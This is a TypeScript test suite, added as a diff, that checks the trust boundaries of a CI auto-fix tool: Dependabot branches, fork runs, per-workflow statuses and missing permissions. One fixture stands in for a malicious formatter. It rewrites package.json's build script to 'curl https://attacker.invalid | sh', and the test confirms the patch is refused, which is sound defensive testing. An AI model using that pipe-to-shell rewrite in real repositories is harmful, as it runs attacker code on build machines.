@@ -1,0 +1,269 @@
+import { join } from 'node:path';
+import { workflowRunEvent, type FakeGitHub } from '@closed-loop/testkit';
+import { fixtureLog, seedRun, workspace, WORKFLOW_PATH, type Seeded, type Step, type Story, type StepOutputs } from './stories.js';
+
+/**
+ * The loop's trust boundaries, replayed: who may cause a commit, what a fix may touch, what a fork's run
+ * may change, what a required status means, and how a missing permission reads.
+ */
+
+const DEPENDABOT_BRANCH = 'dependabot/npm_and_yarn/trust-lodash-4.17.21';
+const UNTRUSTED_BRANCH = 'trust-scripts';
+const FORK_LOG = 'trust-fork-main.log';
+let issuesBeforePermissionStory = 0;
+
+const CONFIG = (fixer: string) => `version: 1\nrecover:\n  mode: automatic\n  fixers:\n    format:\n      - ${JSON.stringify(fixer)}\n`;
+const UNFORMATTED = 'export function total(items: {price:number}[]){\n  return items.reduce((sum,i)=>sum+i.price,0)\n}\n';
+
+const classifyStep = (label: string, trigger?: Step['trigger']): Step => ({
+  action: 'failure-classify',
+  label,
+  inputs: () => ({ workflows: WORKFLOW_PATH }),
+  ...(trigger ? { trigger } : {}),
+});
+
+/** classify → propose-fix (no token) → apply-fix, as the fix path of closed-loop.yml runs them. */
+const FIX_STEPS: Step[] = [
+  classifyStep('classify'),
+  {
+    action: 'recover',
+    label: 'propose-fix',
+    token: 'none',
+    inputs: (o) => (o.classify?.category === 'quality' ? { phase: 'propose-fix', verdict: o.classify.result ?? '' } : undefined),
+  },
+  {
+    action: 'recover',
+    label: 'apply-fix',
+    inputs: (o) => (o['propose-fix']?.['has-changes'] === 'true' ? { phase: 'apply-fix', verdict: o.classify?.result ?? '' } : undefined),
+  },
+];
+
+function outcomeOf(outputs: StepOutputs, label: string): { action?: string; reason?: string } {
+  return JSON.parse(outputs[label]?.outcome ?? '{}') as { action?: string; reason?: string };
+}
+
+function commitsOn(fake: FakeGitHub, branch: string): number {
+  return fake.writes.filter((w) => JSON.stringify(w.body ?? '').includes('createCommitOnBranch') && JSON.stringify(w.body ?? '').includes(branch)).length;
+}
+
+/** A second workflow on the same SHA: `Lint`, beside CI. */
+function seedWorkflowRun(
+  fake: FakeGitHub,
+  opts: {
+    workflow: string;
+    path: string;
+    branch: string;
+    headSha: string;
+    conclusion: 'failure' | 'success';
+    log: string;
+    fork?: boolean;
+    actor?: string;
+    pullNumbers?: number[];
+  },
+) {
+  const run = fake.state.addRun({
+    workflow: opts.workflow,
+    head_branch: opts.branch,
+    head_sha: opts.headSha,
+    event: opts.fork || opts.pullNumbers ? 'pull_request' : 'push',
+    conclusion: opts.conclusion,
+    ...(opts.fork ? { fork: true } : {}),
+    ...(opts.actor ? { actor: opts.actor } : {}),
+    ...(opts.pullNumbers ? { pullNumbers: opts.pullNumbers } : {}),
+    jobs: [{ name: 'test', conclusion: opts.conclusion, steps: [{ name: 'Run npm test', conclusion: opts.conclusion }], log: opts.log }],
+  });
+  const event = workflowRunEvent({
+    repository: `${fake.owner}/${fake.repo}`,
+    runId: run.id,
+    headSha: opts.headSha,
+    headBranch: opts.branch,
+    conclusion: opts.conclusion,
+    workflowName: opts.workflow,
+    event: run.event,
+  });
+  const wr = event.workflow_run as Record<string, unknown>;
+  wr.path = opts.path;
+  if (opts.fork) wr.head_repository = { ...(wr.head_repository as Record<string, unknown>), full_name: run.headRepoFullName };
+  return { run, event };
+}
+
+export const TRUST_STORIES: Story[] = [
+  {
+    id: 'fix-from-bot',
+    title: 'Lint failure on a Dependabot branch: the fix is offered as suggestions, never committed',
+    seed(fake, ctx) {
+      const prettier = join(ctx.root, 'node_modules', 'prettier', 'bin', 'prettier.cjs');
+      const files = { '.github/closed-loop.yml': CONFIG(`node ${prettier} --write src`), 'src/cart.ts': UNFORMATTED };
+      const headSha = fake.state.addCommit({ branch: DEPENDABOT_BRANCH, message: 'Bump lodash', files });
+      const { pull } = fake.state.addPull({ head: DEPENDABOT_BRANCH, title: 'Bump lodash to 4.17.21', user: 'dependabot[bot]', headSha });
+      const log = fixtureLog('prettier-check.log');
+      const { run, event } = seedWorkflowRun(fake, {
+        workflow: 'CI',
+        path: WORKFLOW_PATH,
+        branch: DEPENDABOT_BRANCH,
+        headSha,
+        conclusion: 'failure',
+        log: log.text,
+        actor: 'dependabot[bot]',
+        pullNumbers: [pull.number],
+      });
+      return { event, runId: run.id, headSha, branch: DEPENDABOT_BRANCH, logName: log.name, workspace: workspace(files) };
+    },
+    steps: FIX_STEPS,
+    expect(fake, outputs, seeded) {
+      const unmet: string[] = [];
+      if (fake.state.branch(DEPENDABOT_BRANCH)?.sha !== seeded.headSha) unmet.push(`${DEPENDABOT_BRANCH} gained a commit`);
+      if (commitsOn(fake, DEPENDABOT_BRANCH)) unmet.push('apply-fix tried to commit on the Dependabot branch');
+      const outcome = outcomeOf(outputs, 'apply-fix');
+      if (outcome.action !== 'suggest') unmet.push(`apply-fix: ${outcome.action ?? 'no outcome'}, expected suggest`);
+      if (!outcome.reason?.includes('dependabot[bot]')) unmet.push(`apply-fix reason does not name the bot: ${outcome.reason ?? ''}`);
+      return unmet;
+    },
+  },
+  {
+    id: 'fix-untrusted-content',
+    title: 'A fixer patch that edits package.json scripts: refused, with the reason in the summary',
+    seed(fake) {
+      // Stands in for anything `npm ci` installed: the "formatter" rewrites the build script.
+      const evil = `node -e "const f='package.json';const p=JSON.parse(require('fs').readFileSync(f,'utf8'));p.scripts.build='curl https://attacker.invalid | sh';require('fs').writeFileSync(f,JSON.stringify(p,null,2)+'\\\\n')"`;
+      const files = {
+        '.github/closed-loop.yml': CONFIG(evil),
+        'package.json': `${JSON.stringify({ name: 'cart', scripts: { build: 'tsc' } }, null, 2)}\n`,
+      };
+      const headSha = fake.state.addCommit({ branch: UNTRUSTED_BRANCH, message: 'Add build script', files });
+      const { pull } = fake.state.addPull({ head: UNTRUSTED_BRANCH, title: 'Add build script', user: 'octocat', headSha });
+      const log = fixtureLog('prettier-check.log');
+      const { run, event } = seedRun(fake, { branch: UNTRUSTED_BRANCH, headSha, log, conclusion: 'failure', agoMinutes: 1, pullNumbers: [pull.number] });
+      return { event, runId: run.id, headSha, branch: UNTRUSTED_BRANCH, logName: log.name, workspace: workspace(files) };
+    },
+    steps: FIX_STEPS,
+    expect(fake, outputs, seeded) {
+      const unmet: string[] = [];
+      if (fake.state.branch(UNTRUSTED_BRANCH)?.sha !== seeded.headSha) unmet.push(`${UNTRUSTED_BRANCH} gained a commit`);
+      if (fake.state.file('package.json', fake.state.branch(UNTRUSTED_BRANCH)?.sha)?.includes('attacker')) unmet.push('package.json was changed');
+      const outcome = outcomeOf(outputs, 'apply-fix');
+      if (outcome.action === 'fix' || outcome.action === 'suggest') unmet.push(`apply-fix delivered the patch (${outcome.action})`);
+      if (!/patch refused: .*package\.json/.test(outcome.reason ?? '')) unmet.push(`apply-fix reason does not refuse package.json: ${outcome.reason ?? ''}`);
+      return unmet;
+    },
+  },
+  {
+    id: 'fork-isolation',
+    title: "A fork's green run from its own main: main's open issue stays open, no resolution is sent",
+    seed(fake) {
+      const text =
+        'Run npm test\nFAIL src/fork.test.ts\n  ● fork isolation › keeps the base issue\n    expect(received).toBe(expected)\nTests: 1 failed, 1 total\n##[error]Process completed with exit code 1.\n';
+      const headSha = fake.state.addCommit({ branch: 'main', message: 'Break the fork test', files: { 'src/fork.ts': 'export const fork = 1;\n' } });
+      const failed = seedRun(fake, { branch: 'main', headSha, log: { name: FORK_LOG, text }, conclusion: 'failure', agoMinutes: 3 });
+      const forkSha = fake.state.addCommit({ branch: 'main', message: 'fork head', files: { 'src/fork.ts': 'export const fork = 2;\n' } });
+      const green = seedWorkflowRun(fake, {
+        workflow: 'CI',
+        path: WORKFLOW_PATH,
+        branch: 'main',
+        headSha: forkSha,
+        conclusion: 'success',
+        log: 'ok\n',
+        fork: true,
+      });
+      return {
+        event: failed.event,
+        runId: failed.run.id,
+        headSha,
+        branch: 'main',
+        logName: FORK_LOG,
+        workspace: workspace({}),
+        forkEvent: green.event,
+      } as Seeded;
+    },
+    steps: [
+      classifyStep('classify-main'),
+      {
+        action: 'notify',
+        label: 'notify-main',
+        inputs: (o) => (o['classify-main']?.path === 'failure' ? { verdict: o['classify-main'].result ?? '' } : undefined),
+      },
+      classifyStep('classify-fork', (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { forkEvent: Record<string, unknown> }).forkEvent })),
+      {
+        action: 'notify',
+        label: 'notify-fork',
+        inputs: (o) => (o['classify-fork']?.path === 'success' ? {} : undefined),
+        trigger: (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { forkEvent: Record<string, unknown> }).forkEvent }),
+      },
+    ],
+    expect(fake, outputs) {
+      const unmet: string[] = [];
+      const number = Number(outputs['notify-main']?.['issue-number'] ?? 0);
+      const issue = fake.state.issues().find((i) => i.number === number);
+      if (!issue) unmet.push('notify-main opened no issue for the failure on main');
+      else if (issue.state !== 'open') unmet.push(`main's issue #${number} was ${issue.state} by the fork's run`);
+      if (outputs['notify-fork']?.change === 'resolution') unmet.push("the fork's run was reported as a resolution");
+      if (outputs['notify-fork'] === undefined) unmet.push('notify-fork did not run');
+      return unmet;
+    },
+  },
+  {
+    id: 'status-per-workflow',
+    title: 'Workflow B green after workflow A red on the same SHA: A’s status context stays failure',
+    seed(fake) {
+      const headSha = fake.state.addCommit({ branch: 'trust-two-workflows', message: 'Two workflows', files: { 'src/two.ts': 'export const two = 2;\n' } });
+      const a = seedRun(fake, { branch: 'trust-two-workflows', headSha, log: fixtureLog('jest-assertion.log'), conclusion: 'failure', agoMinutes: 2 });
+      const b = seedWorkflowRun(fake, {
+        workflow: 'Lint',
+        path: '.github/workflows/lint.yml',
+        branch: 'trust-two-workflows',
+        headSha,
+        conclusion: 'success',
+        log: 'ok\n',
+      });
+      return {
+        event: a.event,
+        runId: a.run.id,
+        headSha,
+        branch: 'trust-two-workflows',
+        logName: 'jest-assertion.log',
+        workspace: workspace({}),
+        lintEvent: b.event,
+      } as Seeded;
+    },
+    steps: [
+      classifyStep('classify-a'),
+      { action: 'notify', label: 'notify-a', inputs: (o) => (o['classify-a']?.path === 'failure' ? { verdict: o['classify-a'].result ?? '' } : undefined) },
+      {
+        action: 'notify',
+        label: 'notify-b',
+        inputs: () => ({}),
+        trigger: (s) => ({ eventName: 'workflow_run', event: (s as Seeded & { lintEvent: Record<string, unknown> }).lintEvent }),
+      },
+    ],
+    expect(fake, _outputs, seeded) {
+      const statuses = fake.state.statuses().filter((s) => s.sha === seeded.headSha);
+      const latest = (context: string) => statuses.filter((s) => s.context === context).at(-1)?.state;
+      const unmet: string[] = [];
+      if (latest('closed-loop / CI') !== 'failure') unmet.push(`closed-loop / CI is ${latest('closed-loop / CI') ?? 'missing'}, expected failure`);
+      if (latest('closed-loop / Lint') !== 'success') unmet.push(`closed-loop / Lint is ${latest('closed-loop / Lint') ?? 'missing'}, expected success`);
+      return unmet;
+    },
+  },
+  {
+    id: 'missing-permission',
+    title: 'notify without issues: write: one line naming the permission, exit 1',
+    seed(fake) {
+      const text =
+        "Run npx tsc --noEmit\nsrc/permission.ts(3,7): error TS2322: Type 'string' is not assignable to type 'number'.\nFound 1 error in src/permission.ts:3\n##[error]Process completed with exit code 2.\n";
+      const headSha = fake.state.addCommit({ branch: 'main', message: 'Break the permission test', files: { 'src/permission.ts': 'export const p = 1;\n' } });
+      const { run, event } = seedRun(fake, { branch: 'main', headSha, log: { name: 'trust-permission.log', text }, conclusion: 'failure', agoMinutes: 1 });
+      issuesBeforePermissionStory = fake.state.issues().length;
+      // The job's token was granted no issues: write; GitHub answers the issue creation with 403.
+      fake.addFault({ method: 'POST', pathPattern: /\/repos\/[^/]+\/[^/]+\/issues$/, status: 403, permissionDenied: true, times: 1 });
+      return { event, runId: run.id, headSha, branch: 'main', logName: 'trust-permission.log', workspace: workspace({}) };
+    },
+    steps: [
+      classifyStep('classify'),
+      { action: 'notify', label: 'notify', expectExit: 1, inputs: (o) => (o.classify?.path === 'failure' ? { verdict: o.classify.result ?? '' } : undefined) },
+    ],
+    expect(fake) {
+      const now = fake.state.issues().length;
+      return now !== issuesBeforePermissionStory ? [`${now - issuesBeforePermissionStory} issue(s) created despite the 403`] : [];
+    },
+  },
+];
